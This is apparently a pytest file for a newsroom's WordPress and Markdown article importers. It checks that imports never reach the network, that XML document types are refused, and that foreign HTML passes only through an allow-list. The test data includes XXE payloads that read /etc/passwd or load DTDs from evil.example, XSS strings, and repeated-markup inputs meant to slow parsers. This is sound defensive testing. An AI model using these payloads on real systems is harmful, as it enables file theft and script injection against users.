"""Imports are given by strangers: nothing in them is executed, expanded, fetched, or read beyond its bounds."""

import os
import socket
import time
import tracemalloc
from collections.abc import Iterator
from pathlib import Path

import pytest

from articles.importers import wxr
from articles.importers.converting import Converter
from articles.importers.items import Item
from articles.importers.pictures import Pictures
from articles.importers.running import Order, run
from articles.importers.tree import parse
from articles.models import Article
from articles.tests.wxr import HEAD, export, post
from newsroom.lib.html import clean

pytestmark = [pytest.mark.django_db, pytest.mark.once]


@pytest.fixture(autouse=True)
def _no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*arguments: object) -> None:
        raise AssertionError("An import asked the network for something.")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE rss [<!ENTITY a "dos"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE rss [<!ENTITY file SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss SYSTEM "http://evil.example/rss.dtd">',
        '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://evil.example/x"> %remote;]>',
        "<!DOCTYPE rss>",
    ],
)
def test_a_document_type_is_refused_with_a_sentence(tmp_path: Path, declared: str) -> None:
    text = HEAD.format(ns="http://wordpress.org/export/1.2") + post() + "</channel></rss>"
    (tmp_path / "old.xml").write_text(text.replace("<rss", f"{declared}<rss", 1))
    report = run(Order(tmp_path))

    assert "old.xml declares a document type or entities" in report.broken[0].sentence
    assert not Article.objects.exists()
    assert report.exit_status == 1


def test_what_stands_before_the_damage_is_in_and_whole(tmp_path: Path) -> None:
    file = export(tmp_path, *(post(n, post_name=f"flood-{n}") for n in range(5)))
    file.write_text(file.read_text()[: -len(post(4)) // 2 - 20])
    report = run(Order(file))

    assert Article.objects.count() == 4
    assert all(article.revision and article.editions.count() == 1 for article in Article.objects.all())
    assert "old.xml, line" in report.broken[0].sentence
    assert "the XML is damaged" in report.broken[0].sentence


@pytest.mark.parametrize(
    "text",
    [
        "",
        "no XML at all",
        "<feed xmlns='http://www.w3.org/2005/Atom'/>",
        "<rss><channel><item/></channel></rss>",
        "\0\0",
        "<?xml version='1.0' encoding='klingon'?><rss/>",
        "<html><body>Not found</body></html>",
    ],
)
def test_what_is_no_export_ends_with_a_sentence(tmp_path: Path, text: str) -> None:
    (tmp_path / "old.xml").write_text(text)
    report = run(Order(tmp_path))

    assert len(report.broken) == 1
    assert report.broken[0].sentence.startswith("old.xml")
    assert report.exit_status == 1


def test_an_item_without_an_end_is_not_read_for_ever(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(wxr, "MAX_ITEM", 1024 * 1024)
    export(tmp_path, post(1), post(2, "x" * 3_000_000))
    report = run(Order(tmp_path))

    assert Article.objects.count() == 1
    assert "holds an item of more than 1 MB" in report.broken[0].sentence


def test_a_long_export_is_read_in_little_memory(tmp_path: Path) -> None:
    file = export(tmp_path, *(post(n, "words " * 2000) for n in range(1500)))
    assert file.stat().st_size > 18_000_000
    tracemalloc.start()
    count = sum(1 for _record in wxr.records(file, "old.xml"))
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert count == 1500
    assert peak < 4_000_000


def hostile() -> Iterator[str]:
    yield from ("<div>" * 8_000, "<b>" * 8_000, "<a href='" * 8_000, "[a " * 8_000, "[a b='" * 8_000)
    yield from ("[caption]" * 8_000, "<!-- wp:a " * 8_000, "{{< a " * 10_000, "{% a " * 10_000, "<img src=" * 8_000)
    yield from ("\n\n" * 50_000, "&amp;" * 50_000, "<p><b><i>" * 5_000, "<table><td>" * 3_000, "<pre>" * 8_000)
    yield from ("](" * 8_000, "\ue0005\ue001" * 10, "<ul><li>" * 3_000, "*a _b " * 10_000, "> " * 2_000 + "x")


@pytest.mark.parametrize("text", list(hostile()), ids=lambda text: text[:12])
@pytest.mark.parametrize("kind", ["wordpress", "markdown"])
def test_no_text_takes_for_ever(tmp_path: Path, text: str, kind: str) -> None:
    if kind == "wordpress":
        export(tmp_path, post(content=text))
    else:
        (tmp_path / "a.md").write_text(f"---\ntitle: A\n---\n{text}")
    begun = time.process_time()
    run(Order(tmp_path))

    assert time.process_time() - begun < 8
    assert Article.objects.count() == 1


@pytest.mark.parametrize(
    "html",
    [
        "<img src=x onerror=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<iframe src='javascript:alert(1)'></iframe>",
        "<object data='data:text/html,<script>alert(1)</script>'></object>",
        "<form action=/admin/><button formaction=javascript:alert(1)>x",
        "<base href=https://evil.example/><link rel=stylesheet href=//evil.example><meta http-equiv=refresh>",
        "<figure data-image='1'><img src=x alt='\"><script>alert(1)</script>'></figure>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    ],
)
def test_foreign_html_reaches_readers_only_through_the_allow_list(html: str) -> None:
    item = Item("test:attack", "1", "a.md", html=html)
    body = Converter(item, Pictures(None, source="test")).body()

    assert body == clean(body)
    assert "alert" not in body.replace("&lt;script&gt;alert(1)&lt;/script&gt;", "").replace("alert(1)</p>", "")
    assert not parse(body).handlers
    assert item.changes, "the report says that something was left out"


def test_the_attack_files_of_the_collection_are_refused(tmp_path: Path) -> None:
    folder = os.environ.get("NEWSROOM_TEST_DATA")
    if not folder:
        pytest.skip("NEWSROOM_TEST_DATA is not set: the attack files are not part of this project.")
    files = sorted(Path(folder).glob("attack-strings/payloadsallthethings/XXE*/Files/*"))
    assert len(files) == 3
    for file in files:
        report = run(Order(file, format="wordpress"))
        assert "declares a document type or entities" in report.broken[0].sentence
